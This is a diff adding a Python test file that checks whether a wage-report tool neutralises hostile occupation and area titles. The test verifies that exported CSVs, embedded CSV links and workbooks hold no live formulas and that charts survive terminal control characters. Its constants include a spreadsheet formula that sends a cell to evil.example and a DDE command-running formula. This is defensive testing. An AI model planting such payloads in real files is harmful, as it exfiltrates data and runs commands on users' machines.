@@ -1,0 +1,158 @@
+"""Hostile titles in the report exports and charts (round two): a title from an input file that a spreadsheet would
+run as a formula reaches no report CSV, no CSV download link inside a page and no workbook cell as a formula; a
+title holding terminal escape sequences, BEL, NUL, VT or a right-to-left override does not abort the chart
+renderer (the report builds, its charts are drawn).
+
+The project is a SYNTHETIC copy of the bundled May 2025 oe files whose titles of 29-2072, California and four
+California metros carry the payloads; the national and regional reports are built from it with the CLI.
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from analysis.text import FORMULA_START
+from real_files import ROOT, link_context_files
+
+pytestmark = [pytest.mark.notebook, pytest.mark.xdist_group("hostile_reports")]
+
+#: SYNTHETIC payloads: a formula sending a cell to a server, one running a command, plain formulas.
+HYPERLINK = '+HYPERLINK("http://evil.example/?"&A2,"x")'
+CMD = "-2+3+cmd|' /C calc'!A0"
+FORMULAS = (HYPERLINK, CMD, "=1+1", "@SUM(1)")
+#: SYNTHETIC control characters: clear the screen (ESC[2J), BEL, NUL and a right-to-left override. (A VT in an oe
+#: file ends its line, so the reader refuses the file in one line; VT in a chart is tested in the unit tests.)
+CONTROLS = "\x1b[2J\x07\x00\u202e"
+
+REPLACEMENTS = {
+    "oe.occupation": [("\tMedical Records Specialists\t", f"\t{HYPERLINK} Medical Records{CONTROLS} Specialists\t")],
+    "oe.area": [
+        ("\tCalifornia\r", "\t=1+1 California\r"),
+        ("\tLos Angeles-Long Beach-Anaheim, CA\r", f"\t{CMD} Los Angeles{CONTROLS}, CA\r"),
+        ("\tSan Diego-Chula Vista-Carlsbad, CA\r", "\t@SUM(1) San Diego, CA\r"),
+        ("\tFresno, CA\r", f"\tFresno{CONTROLS}, CA\r"),
+        ("\tSacramento-Roseville-Folsom, CA\r", f"\t{HYPERLINK}\r"),
+    ],
+}
+
+
+def _hostile_home(home: Path) -> None:
+    raw = home / "data" / "raw"
+    shutil.copytree(ROOT / "data" / "raw" / "oe", raw / "oe")
+    shutil.copy(ROOT / "data" / "raw" / "MANIFEST", raw / "MANIFEST")
+    link_context_files(raw)
+    for name, pairs in REPLACEMENTS.items():
+        path = raw / "oe" / name
+        text = path.read_bytes().decode("utf-8")
+        for old, new in pairs:
+            assert old in text, (name, old)
+            text = text.replace(old, new)
+        path.write_bytes(text.encode("utf-8"))
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory) -> Path:
+    home = tmp_path_factory.mktemp("hostile-exports")
+    _hostile_home(home)
+    out = home / "reports"
+    config = home / "reports.toml"
+    notebooks = ROOT / "notebooks"
+    config.write_text(
+        'release = "hostile"\n\n[[reports]]\nname = "national"\n'
+        f'notebook = "{(notebooks / "01_national.ipynb").as_posix()}"\n'
+        'parameters = { occupation = "29-2072" }\n\n[[reports]]\nname = "regional"\n'
+        f'notebook = "{(notebooks / "02_regional.ipynb").as_posix()}"\n'
+        'parameters = { occupation = "29-2072", state = "CA" }\n'
+    )
+    completed = subprocess.run(
+        [sys.executable, "-m", "analysis", "report", "--config", str(config), "--out", str(out), "--jobs", "2"],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "HIM_WAGES_HOME": str(home)},
+        timeout=900,
+        check=False,
+    )
+    assert completed.returncode == 0, f"report build failed:\n{completed.stdout}\n{completed.stderr}"
+    return out
+
+
+def _csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _formula_cells(cells: list[str]) -> list[str]:
+    """Cells a spreadsheet would run: text starting with = + - @, tab or CR (a number such as -1 is a number)."""
+    return [cell for cell in cells if cell.startswith(FORMULA_START) and not _is_number(cell)]
+
+
+def test_report_csvs_and_their_links_hold_no_formula(reports: Path):
+    files = sorted(reports.rglob("tables/*.csv"))
+    assert files, "no CSV written"
+    seen: set[str] = set()
+    for path in files:
+        cells = _csv_cells(path.read_text(encoding="utf-8"))
+        assert _formula_cells(cells) == [], path.name
+        seen.update(payload for payload in FORMULAS for cell in cells if cell.startswith("'" + payload))
+    assert seen == set(FORMULAS), f"payloads not found in any CSV (test does not reach them): {set(FORMULAS) - seen}"
+    links = 0
+    for page in sorted(reports.rglob("*.html")):
+        for data in re.findall(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page.read_text(encoding="utf-8")):
+            links += 1
+            cells = _csv_cells(base64.b64decode(data).decode("utf-8"))
+            assert _formula_cells(cells) == [], page.name
+    assert links, "no CSV download link in any page"
+
+
+def test_workbooks_store_formula_like_titles_as_text_without_an_apostrophe(reports: Path):
+    import openpyxl
+
+    books = sorted(reports.rglob("tables/*.xlsx"))
+    assert books
+    seen: set[str] = set()
+    for book in books:
+        workbook = openpyxl.load_workbook(book)  # formulas are read as formulas (data_type "f"), not values
+        for sheet in workbook:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (book.name, sheet.title, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str):
+                        prefixed = [p for p in FORMULAS if cell.value.startswith("'" + p)]
+                        assert not prefixed, (book.name, sheet.title, cell.coordinate, cell.value)
+                        if cell.value.startswith(FORMULA_START):
+                            assert cell.data_type == "s" and cell.quotePrefix, (book.name, cell.coordinate)
+                            seen.update(p for p in FORMULAS if cell.value.startswith(p))
+    assert seen == set(FORMULAS), set(FORMULAS) - seen
+
+
+def test_control_characters_in_titles_do_not_abort_the_charts(reports: Path):
+    for name in ("national", "regional"):
+        page = (reports / "hostile" / f"{name}.html").read_text(encoding="utf-8")
+        assert "him-wages-chart" in page and "<svg" in page, name  # charts drawn (static pictures present)
+        assert "Medical Records" in page, name
+        charts = page.count('<figure class="him-wages-chart"')
+        pictures = len(re.findall(r'class="him-wages-chart-static"[^>]*>\s*<svg', page))
+        assert charts and charts == pictures, name  # every chart drawn by vl-convert: none aborted or failed
+        assert "interactive chart: it needs JavaScript" not in page, f"{name}: a chart has no static picture"
+        specs = re.findall(r"var spec = (.*?);\n", page)
+        assert specs, name
+        for ch in ("\x1b", "\x07", "\x00", "\u202e"):
+            assert not [spec for spec in specs if ch in spec or json.dumps(ch)[1:-1] in spec], (name, repr(ch))
